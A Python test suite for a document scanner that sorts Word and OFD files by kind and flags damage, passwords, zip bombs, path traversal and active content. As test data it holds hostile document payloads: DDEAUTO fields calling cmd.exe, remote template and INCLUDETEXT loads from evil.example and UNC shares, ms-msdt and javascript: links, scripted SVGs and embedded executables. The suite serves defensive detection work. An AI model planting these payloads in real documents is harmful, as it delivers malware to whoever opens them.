from __future__ import annotations

import io
import re
import struct
import tracemalloc
import zipfile
from xml.sax.saxutils import escape

import pytest

from chalicelib.formats.examine import examine
from chalicelib.formats.verdict import Active, Fault, Verdict
from infra.local.samples import archive, docx, ofd
from tests.formats.made import compound, links, package, pdf, unpacked, word, written

WORD, OFD = Verdict("docx"), Verdict("ofd")
FIELD = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
    "{}</w:p></w:body></w:document>"
)
CODE = FIELD.format(
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> {} </w:instrText></w:r>',
)
DRAWING = "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0' stroke-dashoffset='1'/></svg>"
"""As Word keeps an icon beside its picture."""


def acts(what: Active) -> Verdict:
    return Verdict("docx", Fault.ACTIVE, what)


def entry_changed(content: bytes, name: str, at: int, byte: int) -> bytes:
    """A zip one of whose entries has another byte than its sum says."""
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        entry = opened.getinfo(name)
    start = entry.header_offset + 30 + len(name.encode()) + at
    return content[:start] + bytes([byte]) + content[start + 1 :]


# --- documents of other makers -------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        docx(),
        word(
            renamed={"word/document.xml": "word/document2.xml"},
            swaps=[("word/document.xml", "word/document2.xml")],
        ),
        word(
            renamed={"word/document.xml": "content/main.xml"},
            swaps=[("word/document.xml", "content/main.xml")],
        ),
        word(renamed={"word/document.xml": "word\\document.xml", "_rels/.rels": "_rels\\.rels"}),
        word(
            renamed={"word/document.xml": "Word/Document.xml", "[Content_Types].xml": "[content_types].xml"}
        ),
        word(swaps=[("word/document.xml", "/word/document.xml"), ('PartName="//', 'PartName="/')]),
        word(
            swaps=[
                (
                    "http://schemas.openxmlformats.org/officeDocument/2006/",
                    "http://purl.oclc.org/ooxml/officeDocument/",
                ),
                (
                    "http://schemas.openxmlformats.org/wordprocessingml/2006/",
                    "http://purl.oclc.org/ooxml/wordprocessingml/",
                ),
            ]
        ),
        word(renamed={"word/document.xml": "word/./document.xml"}),
        word({"mimetype": "anything", "docProps/": ""}),
    ],
    ids=["ours", "document2", "folder", "backslashes", "case", "absolute", "strict", "dot", "more"],
)
def test_the_main_part_is_what_the_package_says_it_is(content: bytes) -> None:
    assert examine(content) == WORD


@pytest.mark.parametrize(
    "content",
    [
        ofd(),
        package({name.replace("OFD.xml", "ofd.xml"): each for name, each in unpacked(ofd()).items()}),
        package({name.replace("/", "\\"): each for name, each in unpacked(ofd()).items()}),
        package(
            {
                name: each.replace(b"Doc_0/Document", b"/Doc_0/Document")
                for name, each in unpacked(ofd()).items()
            }
        ),
        package({name: each.replace(b"ofd:", b"") for name, each in unpacked(ofd()).items()}),
        package(
            {**unpacked(ofd()), "Doc_0/Attachs/original_invoice.xml": "<a/>", "Doc_0/Res/f.otf": b"OTTO"}
        ),
    ],
    ids=["ours", "case", "backslashes", "absolute", "no prefix", "attachment"],
)
def test_an_ofd_of_any_maker_is_taken(content: bytes) -> None:
    assert examine(content) == OFD


PARTS = "application/vnd.openxmlformats-officedocument."


@pytest.mark.parametrize(
    ("swap", "kind"),
    [
        (("wordprocessingml.document", "spreadsheetml.sheet"), "xlsx"),
        (("wordprocessingml.document", "presentationml.presentation"), "pptx"),
        (("wordprocessingml.document", "wordprocessingml.template"), "dotx"),
        (
            (PARTS + "wordprocessingml.document.main", "application/vnd.ms-word.document.macroEnabled.main"),
            "docm",
        ),
        (
            (PARTS + "wordprocessingml.document.main", "application/vnd.ms-excel.sheet.macroEnabled.main"),
            "xlsx",
        ),
    ],
)
def test_other_office_documents_are_told_as_what_they_are(swap: tuple[str, str], kind: str) -> None:
    assert examine(word(swaps=[swap])) == Verdict(kind)


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}), "odt"),
        (package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "ods"),
        (package({"mimetype": "application/vnd.oasis.opendocument.presentation"}), "odp"),
        (package({"mimetype": "application/epub+zip"}), "epub"),
        (package({"META-INF/MANIFEST.MF": "", "A.class": b"\xca\xfe\xba\xbe"}), "program"),
        (package({"Index/Document.iwa": b"\x00"}), "iwork"),
        (package({"a.pdf": "x", "b.jpg": "y"}), "zip"),
        (package({}), "zip"),
        (archive(), "zip"),
        (compound("WordDocument", "1Table"), "doc"),
        (compound("Workbook"), "xls"),
        (compound("Book", "x" * 20), "xls"),
        (compound("Current User", "PowerPoint Document"), "ppt"),
        (compound("__properties_version1.0"), "eml"),
        (compound("something else"), "ole"),
        (compound(*[f"stream {n}" for n in range(20)], "WordDocument"), "doc"),
        (compound("WordDocument")[:600], "ole"),
    ],
)
def test_archives_and_old_documents_are_told_as_what_they_are(content: bytes, kind: str) -> None:
    assert examine(content) == Verdict(kind)


# --- whether they are whole ----------------------------------------------------------------------


@pytest.mark.parametrize("make", [docx, ofd, archive])
def test_a_package_cut_off_anywhere_is_damaged(make: object) -> None:
    content = make()  # type: ignore[operator]
    for length in range(4, len(content)):
        assert examine(content[:length]).fault is Fault.DAMAGED, length


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (package({**unpacked(docx()), "word/document.xml": "<w:document"}), "docx"),
        (package({**unpacked(docx()), "word/document.xml": "<html/>"}), "docx"),
        (
            package(
                {
                    **unpacked(docx()),
                    "word/document.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><document>&b;</document>",
                }
            ),
            "docx",
        ),
        (package({n: each for n, each in unpacked(docx()).items() if n != "word/document.xml"}), "docx"),
        (package({**unpacked(ofd()), "OFD.xml": "<OFD/>"}), "ofd"),
        (package({**unpacked(ofd()), "OFD.xml": "not xml"}), "ofd"),
        (package({n: each for n, each in unpacked(ofd()).items() if n != "Doc_0/Document.xml"}), "ofd"),
        (entry_changed(docx(), "word/document.xml", 5, 0), "docx"),
        (entry_changed(ofd(), "Doc_0/Document.xml", 5, 0), "ofd"),
        (word({"WORD/document.xml": "<document/>"}), None),
        (package({"[Content_Types].xml": "demonstration", "word/document.xml": "demonstration"}), None),
    ],
)
def test_a_document_that_lacks_what_it_names_or_whose_sums_are_wrong_is_damaged(
    content: bytes, kind: str | None
) -> None:
    assert examine(content) == Verdict(kind, Fault.DAMAGED)


# --- passwords -----------------------------------------------------------------------------------


def locked(content: bytes) -> bytes:
    """A zip whose entries are marked as encrypted, in both of their places."""
    changed = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + place] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


@pytest.mark.parametrize(
    "content",
    [
        locked(docx()),
        locked(ofd()),
        compound("EncryptionInfo", "EncryptedPackage"),
        compound("DataSpaces", *[f"s{n}" for n in range(9)], "EncryptedPackage"),
        package({"OFD.xml": "<x/>", "Encryptions.xml": "<x/>", "DecryptSeed.dat": b"\x00"}),
    ],
    ids=["docx", "ofd", "office", "office, long directory", "encrypted ofd"],
)
def test_a_document_that_asks_for_a_password_is_refused_as_such(content: bytes) -> None:
    assert examine(content).fault is Fault.PASSWORD


# --- what acts -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changed", "what"),
    [
        ({"word/vbaProject.bin": b"\xd0\xcf"}, Active.MACROS),
        ({"word/_rels/document.xml.rels": links("vbaProject code.bin")}, Active.MACROS),
        ({"word/_rels/document.xml.rels": links("oleObject embeddings/oleObject1.bin")}, Active.OBJECT),
        (
            {"word/_rels/document.xml.rels": links("oleObject http://evil.example/a.doc External")},
            Active.OBJECT,
        ),
        ({"word/embeddings/oleObject1.bin": b"\x01"}, Active.OBJECT),
        ({"word/embeddings/a.docx": docx()}, Active.OBJECT),
        ({"word/_rels/document.xml.rels": links("package embeddings/a.xlsx")}, Active.OBJECT),
        ({"word/activeX/activeX1.xml": "<a/>"}, Active.OBJECT),
        ({"word/_rels/document.xml.rels": links("webextensiontaskpanes w/t.xml")}, Active.OBJECT),
        ({"word/charts/_rels/chart1.xml.rels": links("package ../objs/book.bin")}, Active.OBJECT),
        ({"word/charts/_rels/c.xml.rels": links("package ../embeddings/../b.xlsx")}, Active.OBJECT),
        ({"word/embeddings/a.xlsx": package({"xl/_rels/b.rels": links("vbaProject c.bin")})}, Active.MACROS),
        (
            {
                "word/embeddings/a.xlsx": package(
                    {"xl/_rels/b.rels": links("oleLink http://e.example/a External")}
                )
            },
            Active.EXTERNAL,
        ),
        (
            {"word/_rels/settings.xml.rels": links("attachedTemplate file://users/share/t.dotm External")},
            Active.EXTERNAL,
        ),
        ({"word/_rels/document.xml.rels": links("hyperlink ms-msdt:/id External")}, Active.SCRIPT),
        ({"word/_rels/document.xml.rels": links("hyperlink java%0Ascript:x External")}, Active.SCRIPT),
        ({"word/media/a.svg": DRAWING.replace("<path", "<script/><path").encode("utf-16")}, Active.SCRIPT),
        ({"word/document.xml": FIELD.format("<w:webVideoPr embeddedHtml='x'/>")}, Active.MEDIA),
        ({"word/document.xml": FIELD.format("<w:connectString w:val='Provider=x'/>")}, Active.ACTION),
        ({"word/document.xml": FIELD.format("<w:query w:val='SELECT 1'/>")}, Active.ACTION),
        ({"word/_rels/document.xml.rels": links("control activeX/activeX1.xml")}, Active.OBJECT),
        ({"word/_rels/document.xml.rels": links("aFChunk afchunk.mht")}, Active.EMBEDDED),
        (
            {"word/_rels/settings.xml.rels": links("attachedTemplate http://evil.example/t.dotm External")},
            Active.EXTERNAL,
        ),
        (
            {"word/_rels/settings.xml.rels": links("attachedTemplate \\\\evil\\t.dotm External")},
            Active.EXTERNAL,
        ),
        (
            {"word/_rels/settings.xml.rels": links("attachedTemplate file://evil/t.dotm External")},
            Active.EXTERNAL,
        ),
        (
            {"word/_rels/settings.xml.rels": links("attachedTemplate file:///\\\\evil\\t.dotm External")},
            Active.EXTERNAL,
        ),
        (
            {"word/_rels/document.xml.rels": links("image https://evil.example/spy.png External")},
            Active.EXTERNAL,
        ),
        ({"word/_rels/header1.xml.rels": links("frame //evil.example/a.htm External")}, Active.EXTERNAL),
        ({"word/_rels/document.xml.rels": links("hyperlink javascript:alert(1) External")}, Active.SCRIPT),
        ({"word/media/image1.png": b"MZ\x90\x00"}, Active.EMBEDDED),
        ({"docs/run.vbs": "x"}, Active.EMBEDDED),
        ({"word/page.html": "<script>"}, Active.EMBEDDED),
        ({"page.svg": DRAWING}, Active.EMBEDDED),
        ({"word/media/a.svg": DRAWING.replace("<path", "<script/><path")}, Active.SCRIPT),
        ({"word/media/a.svg": DRAWING.replace("<path", "<path ONLOAD = 'alert(1)'")}, Active.SCRIPT),
        ({"word/media/a.svg": " " * ((1 << 16) - 4) + "<script>"}, Active.SCRIPT),
        ({"word/document.xml": CODE.format('INCLUDETEXT \\c x "https://evil.example"')}, Active.ACTION),
        ({"word/document.xml": CODE.format("INCLUDEPICTURE \\d \\\\evil\\a.png")}, Active.ACTION),
        (
            {"word/document.xml": FIELD.format("<w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe \"/k\"'/>")},
            Active.ACTION,
        ),
        *(
            (
                {
                    "word/document.xml": FIELD.format(
                        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{gap}<w:r>'
                        f"<w:instrText> DD</w:instrText>{gap}</w:r>{gap}<w:r>{gap}"
                        "<w:instrText>EAUTO excel</w:instrText></w:r>"
                    )
                },
                Active.ACTION,
            )
            for gap in ("", "\n  ", "<w:t>x</w:t>")
        ),
    ],
)
def test_what_a_word_document_runs_or_loads_or_hides_is_found(
    changed: dict[str, bytes | str], what: Active
) -> None:
    assert examine(word(changed)) == acts(what)


@pytest.mark.parametrize(
    "code",
    [
        'LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" "" \\a',
        'LINK Word.Document.12 "http://evil.example/a.docx"',
        'IMPORT "https://evil.example/a.png"',
        'include "ftp://evil.example/a.docx"',
        'INCLUDETEXT "file://evil/a.docx"',
        'INCLUDETEXT "file:///\\\\evil\\a.docx"',
        "INCLUDEPICTURE %5C%5Cevil%5Ca.png",
        'INCLUDETEXT "mhtml:http://evil.example/a!b"',
        'RD "http://evil.example/a.docx"',
        'DATABASE \\d "C:\\a.mdb" \\s "SELECT 1"',
        "INCLUDETEXT {QUOTE 104 116 116 112}",
        'INCLUDETEXT {PAGE} "http://evil.example"',
        'IF 1 = 1 {INCLUDETEXT "http://evil.example"}',
        'HYPERLINK "a" |{DDE excel}',
    ],
)
def test_a_field_that_starts_something_or_loads_from_elsewhere_is_found_however_it_is_put(code: str) -> None:
    assert examine(word({"word/document.xml": FIELD.format(field(code))})) == acts(Active.ACTION)


ELSEWHERE = [
    "file://evil/x.exe",
    "file:///C:/Users/a.docx",
    "\\\\evil\\x.exe",
    "%5C%5Cevil%5Cx.exe",
    "smb://evil/x",
    "tencent://message/?uin=1",
    "C:\\Windows\\calc.exe",
    "..\\..\\Windows\\System32\\calc.exe",
    "calc.exe.",
    "\u200bfi\u200dle:///c:/x",
    "/\\evil/x",
]
BESIDE = [
    "http://www.gov.cn:80/a.exe",
    "HTTPS://www.gov.cn",
    "mailto:a@example.cn",
    "tel:+86-10-1",
    "#_Toc1",
    "www.example.com",
    "www.gov.cn:8080/a",
    "a@example.com",
    "..\\..\\附件1.docx",
    "",
]


@pytest.mark.parametrize("target", ELSEWHERE)
def test_a_link_that_opens_something_of_the_machine_is_found_wherever_a_document_has_it(target: str) -> None:
    drawn = f'<w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="{target}"/></w:pict>'
    for changed in linking(target):
        assert examine(word(changed)) == acts(Active.LINK)
    assert examine(word({"word/document.xml": FIELD.format(drawn)})) == acts(Active.LINK)
    click = f'<ofd:Action Event="CLICK"><ofd:URI URI="{target}"/></ofd:Action>'
    assert examine(ofd_that(click, page=True)) == Verdict("ofd", Fault.ACTIVE, Active.LINK)


@pytest.mark.parametrize("target", BESIDE)
def test_a_link_to_the_web_mail_a_telephone_or_beside_the_document_is_taken(target: str) -> None:
    for changed in linking(target):
        assert examine(word(changed)) == WORD
    click = f'<ofd:Action Event="CLICK"><ofd:URI URI="{target}"/></ofd:Action>'
    assert examine(ofd_that(click, page=True)) == OFD


def linking(target: str) -> list[dict[str, bytes | str]]:
    """A link as a relationship, as a field and as a field that is written short."""
    link = links("hyperlink TARGET External").replace("TARGET", target)
    code = f'HYPERLINK "{target}"'.replace("\\", "\\\\")
    short = f"<w:fldSimple w:instr='{code}'/>"
    return [
        {"word/_rels/document.xml.rels": link},
        {"word/_rels/document.xml.rels": link.replace(' TargetMode="External"', "")},
        {"word/document.xml": FIELD.format(field(code))},
        {"word/document.xml": FIELD.format(short)},
    ]


@pytest.mark.parametrize(
    ("code", "what"),
    [
        ('HYPERLINK "javascript:alert(1)"', Active.SCRIPT),
        ('HYPERLINK \\l "a" "ms-msdt:/id x"', Active.SCRIPT),
        ('HYPERLINK "java\\script:x"', Active.SCRIPT),
        ('hyperlink "http://www.gov.cn" "file://evil/a"', Active.LINK),
        ("HYPERLINK“file://evil/a”", Active.LINK),
        ("HYPERLINK \\\\\\\\evil\\\\x", Active.LINK),
        ('IF 1 = 1 {HYPERLINK "file:x"}', Active.LINK),
        ('HYPERLINK "{QUOTE 102 105}le:x"', Active.ACTION),
    ],
)
def test_a_field_that_leads_where_no_link_may_is_found_however_it_is_put(code: str, what: Active) -> None:
    assert examine(word({"word/document.xml": FIELD.format(field(code))})) == acts(what)


@pytest.mark.parametrize(
    "code",
    [
        'INCLUDEPICTURE "cid:image001.png@01D" \\* MERGEFORMATINET',
        'LINK Excel.Sheet.12 "C:\\\\Users\\\\a\\\\b.xlsx" "Sheet1:Sheet2!R1C1" \\a',
        'INCLUDETEXT "file:///D:/a.docx"',
        'TOC \\o "1-3" \\h |{HYPERLINK "http://www.gov.cn"}',
        'INCLUDETEXT "a.docx" |{HYPERLINK "http://www.gov.cn"}',
        'IF {MERGEFIELD a} = "DDE" "INCLUDETEXT http://x" ""',
        "PAGE } }",
        'HYPERLINK \\l "_Toc:1" \\h',
        'HYPERLINK "http://www.gov.cn/set/{PAGE}" \\o "C:\\\\a" \\t "_blank"',
        "HYPERLINK {MERGEFIELD address}",
    ],
)
def test_fields_of_ordinary_documents_are_taken(code: str) -> None:
    assert examine(word({"word/document.xml": FIELD.format(field(code))})) == WORD


def field(code: str) -> str:
    """A field written as {CODE|what it shows}, with others within it, each piece in a run of its own."""
    marks = {"{": "begin", "|": "separate", "}": "end"}
    runs = []
    for piece in re.split(r"([{|}])", f"{{{code}}}"):
        kind, text = marks.get(piece), escape(piece)
        runs.append(f'<w:fldChar w:fldCharType="{kind}"/>' if kind else f"<w:instrText>{text}</w:instrText>")
    return "".join(f"<w:r>{run}</w:r>\n" for run in runs)


def test_fields_within_fields_without_end_are_too_much() -> None:
    endless = "<w:fldChar w:fldCharType='begin'/><w:instrText>IF</w:instrText>" * 100_000
    assert examine(word({"word/document.xml": FIELD.format(endless)})) == Verdict("docx", Fault.TOO_COMPLEX)


@pytest.mark.parametrize("name", ["../../a.txt", "..\\..\\a.txt", "word/../../a", "%2e%2e/a"])
@pytest.mark.parametrize("make", [docx, ofd])
def test_a_package_whose_names_lead_out_of_it_is_damaged(make: object, name: str) -> None:
    assert examine(package({**unpacked(make()), name: "x"})).fault is Fault.DAMAGED  # type: ignore[operator]


@pytest.mark.parametrize(
    "changed",
    [
        {"word/_rels/document.xml.rels": links("hyperlink https://www.gov.cn External", "image media/a.png")},
        {
            "word/_rels/settings.xml.rels": links(
                "attachedTemplate file:///C:\\Users\\a\\Normal.dotm External"
            )
        },
        {"word/_rels/settings.xml.rels": links("attachedTemplate Normal.dotm External")},
        {
            "word/_rels/settings.xml.rels": links(
                "attachedTemplate file://localhost/Users/a/Normal.dotm External"
            )
        },
        {
            "word/_rels/settings.xml.rels": links(
                "attachedTemplate file:///Applications/Word.app/Normal.dotm External"
            )
        },
        {"word/_rels/settings.xml.rels": links("attachedTemplate file:///D:\\WPS\\Normal.wpt External")},
        {"word/media/image2.svg": DRAWING},
        {"word/document.xml": CODE.format('INCLUDEPICTURE \\d "C:\\\\Users\\\\a.png" \\* MERGEFORMATINET')},
        {
            "word/charts/_rels/chart1.xml.rels": links("package ../embeddings/Microsoft_Excel_Sheet.xlsx"),
            "word/embeddings/Microsoft_Excel_Sheet.xlsx": package({"[Content_Types].xml": "<Types/>"}),
        },
        {"word/document.xml": FIELD.format('<w:fldSimple w:instr="HYPERLINK &quot;http://a.cn/dde&quot;"/>')},
        {"word/document.xml": FIELD.format("<w:r><w:t>DDE and INCLUDETEXT are words, too</w:t></w:r>")},
        {"word/fonts/font1.odttf": b"MZ by chance"},
        {"customXml/item1.xml": "<a/>", "docProps/thumbnail.jpeg": b"\xff\xd8\xff"},
    ],
)
def test_what_ordinary_documents_have_is_taken(changed: dict[str, bytes | str]) -> None:
    assert examine(word(changed)) == WORD


def test_the_workbook_of_a_chart_may_have_no_macros() -> None:
    book = package({"[Content_Types].xml": "<Types/>", "xl/vbaProject.bin": b"\x00"})
    assert examine(word({"word/embeddings/book.xlsx": book})) == acts(Active.MACROS)


DOES = '<ofd:{} xmlns:ofd="http://www.ofdspec.org/2016">{}<ofd:Actions>{}</ofd:Actions></ofd:{}>'
PAGES = '<ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages>'


def ofd_that(does: str, *, page: bool) -> bytes:
    """An OFD with an action of the document or of its page."""
    parts: dict[str, bytes | str] = {**unpacked(ofd())}
    parts["Doc_0/Document.xml"] = DOES.format("Document", PAGES, "" if page else does, "Document")
    parts["Doc_0/Pages/Page_0/Content.xml"] = DOES.format("Page", "", does if page else "", "Page")
    return package(parts)


@pytest.mark.parametrize("page", [False, True])
@pytest.mark.parametrize(
    ("does", "what"),
    [
        ('<ofd:Action Event="DO"><ofd:URI URI="http://evil.example"/></ofd:Action>', Active.ACTION),
        ('<ofd:Action Event="PO"><ofd:GotoA AttachID="1"/></ofd:Action>', Active.ACTION),
        ('<ofd:Action Event="CLICK"><ofd:URI URI="javascript:alert(1)"/></ofd:Action>', Active.SCRIPT),
        ('<ofd:Action Event="CLICK"><ofd:Movie ResourceID="1"/></ofd:Action>', Active.MEDIA),
        ('<ofd:Action><ofd:Sound ResourceID="1"/></ofd:Action>', Active.MEDIA),
        ('<ofd:Action Event="CLICK"><ofd:URI Base="javascript:" URI="x"/></ofd:Action>', Active.SCRIPT),
    ],
)
def test_what_an_ofd_does_by_itself_is_found(does: str, what: Active, *, page: bool) -> None:
    assert examine(ofd_that(does, page=page)) == Verdict("ofd", Fault.ACTIVE, what)


@pytest.mark.parametrize("page", [False, True])
@pytest.mark.parametrize(
    "does",
    [
        '<ofd:Action Event="CLICK"><ofd:URI URI="https://www.gov.cn"/></ofd:Action>',
        '<ofd:Action Event="DO"><ofd:Goto><ofd:Dest Type="Fit" PageID="1"/></ofd:Goto></ofd:Action>',
    ],
)
def test_links_in_an_ofd_are_taken(does: str, *, page: bool) -> None:
    assert examine(ofd_that(does, page=page)) == Verdict("ofd")


@pytest.mark.parametrize("part", ["Doc_0/Tpls/Tpl_0/Content.xml", "Doc_0/Annots/Page_0/Annotation.xml"])
def test_what_a_template_or_a_note_in_an_ofd_does_is_found(part: str) -> None:
    does = '<Page><Actions><Action Event="PO"><URI URI="http://evil.example"/></Action></Actions></Page>'
    assert examine(package({**unpacked(ofd()), part: does})) == Verdict("ofd", Fault.ACTIVE, Active.ACTION)
    for other in ("<!DOCTYPE a><a/>", "no xml"):
        assert examine(package({**unpacked(ofd()), "Doc_0/Attachs/invoice.xml": other})) == OFD


@pytest.mark.parametrize(
    ("attached", "what"),
    [
        (archive(), Active.EMBEDDED),
        (
            word(
                swaps=[
                    (
                        PARTS + "wordprocessingml.document.main",
                        "application/vnd.ms-word.document.macroEnabled",
                    )
                ]
            ),
            Active.EMBEDDED,
        ),
        (word({"word/vbaProject.bin": b"\xd0\xcf"}), Active.MACROS),
        (pdf(catalogue=b"/OpenAction<</S/JavaScript/JS(1)>>"), Active.SCRIPT),
        (b"\n" * 99 + pdf(catalogue=b"/OpenAction<</S/JavaScript/JS(1)>>"), Active.SCRIPT),
        (written(user_password="open", owner_password="own", algorithm="AES-256"), Active.EMBEDDED),
        (compound("WordDocument"), Active.EMBEDDED),
        (b"{\\rtf1}", Active.EMBEDDED),
        (b"Rar!\x1a\x07\x01\x00", Active.EMBEDDED),
        (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><a/>', Active.EMBEDDED),
    ],
)
@pytest.mark.parametrize("name", ["Doc_0/Attachs/a.xml", "Doc_0/Res/image_1.png"])
def test_what_is_attached_to_an_ofd_is_looked_through_itself(
    name: str, attached: bytes, what: Active
) -> None:
    assert examine(package({**unpacked(ofd()), name: attached})) == Verdict("ofd", Fault.ACTIVE, what)


@pytest.mark.parametrize(
    "attached", [docx(), pdf(), ofd(), b"<a><title>x</title></a>", b"%!PS-AdobeFont-1.0"]
)
def test_harmless_files_attached_to_an_ofd_are_taken(attached: bytes) -> None:
    assert examine(package({**unpacked(ofd()), "Doc_0/Attachs/a.dat": attached})) == OFD


def test_files_attached_to_what_is_attached_are_too_much() -> None:
    attached = ofd()
    for verdict in (OFD, Verdict("ofd", Fault.TOO_COMPLEX)):
        attached = package({**unpacked(ofd()), "Doc_0/Attachs/a.ofd": attached})
        assert examine(attached) == verdict


def test_an_ofd_that_lacks_a_page_or_its_template_is_damaged() -> None:
    whole = unpacked(ofd())
    page = "Doc_0/Pages/Page_0/Content.xml"
    gone = {name: each for name, each in whole.items() if name != page}
    template = whole["Doc_0/Document.xml"].replace(
        b"</ofd:CommonData>", b'<ofd:TemplatePage ID="3" BaseLoc="Tpls/T/Content.xml"/></ofd:CommonData>'
    )
    none = re.sub(rb"<ofd:Page .*?/>", b"", whole["Doc_0/Document.xml"])
    for parts in (
        gone,
        {**whole, page: b"<a/>"},
        {**whole, page: b"no xml"},
        {**whole, "Doc_0/Document.xml": template},
        {**whole, "Doc_0/Document.xml": none},
    ):
        assert examine(package(parts)) == Verdict("ofd", Fault.DAMAGED)
    for place in ("Pages/Page_0/Content.xml", "Doc_0/Tpls/T/Content.xml", "Tpls/T/Content.xml"):
        changed = {**whole, "Doc_0/Document.xml": template.replace(b"Tpls/T/Content.xml", place.encode())}
        assert examine(package({**changed, "Doc_0/Tpls/T/Content.xml": b"<Page/>"})) == OFD


def test_a_program_in_an_ofd_is_found() -> None:
    content = package({**unpacked(ofd()), "Doc_0/Attachs/a.dat": b"MZ\x90\x00"})
    assert examine(content) == Verdict("ofd", Fault.ACTIVE, Active.EMBEDDED)


# --- bounds --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        word({"word/media/image1.bmp": bytes(20 << 20)}),
        word({f"word/media/image{n}.bmp": bytes(7 << 20) for n in range(40)}),
        word({"word/_rels/document.xml.rels": b"<a>" + b" " * (5 << 20)}),
        word({"word/document.xml": FIELD.format(" " * (9 << 20))}),
    ],
    ids=["one entry", "many entries", "links", "text"],
)
def test_what_unpacks_to_far_more_than_a_document_is_too_much(content: bytes) -> None:
    assert len(content) < 1 << 20
    assert examine(content) == Verdict("docx", Fault.TOO_COMPLEX)


def test_unpacking_keeps_nothing_in_memory() -> None:
    content = word({f"word/media/image{n}.bmp": bytes(7 << 20) for n in range(10)})
    examine(content)
    tracemalloc.start()
    assert examine(content) == WORD
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 4 << 20


def test_a_zip_with_an_endless_list_of_names_costs_little_memory() -> None:
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, *[0] * 4, 0, 0, 0, 1, *[0] * 6) + b"a"
    listed = entry * 200_000
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(listed), 4, 0)
    crowded = b"PK\x03\x04" + listed + end
    tracemalloc.start()
    verdict = examine(crowded)
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert verdict == Verdict(None, Fault.DAMAGED)
    assert most < len(crowded) + (4 << 20)


def test_a_zip_of_a_later_standard_is_damaged() -> None:
    content = bytearray(ofd())
    content[content.rfind(b"PK\x01\x02") + 6] = 200
    assert examine(bytes(content)).fault is Fault.DAMAGED


def test_an_entry_packed_in_a_way_that_office_programs_do_not_know_is_damaged() -> None:
    assert examine(package(unpacked(docx()), zipfile.ZIP_LZMA)).fault is Fault.DAMAGED
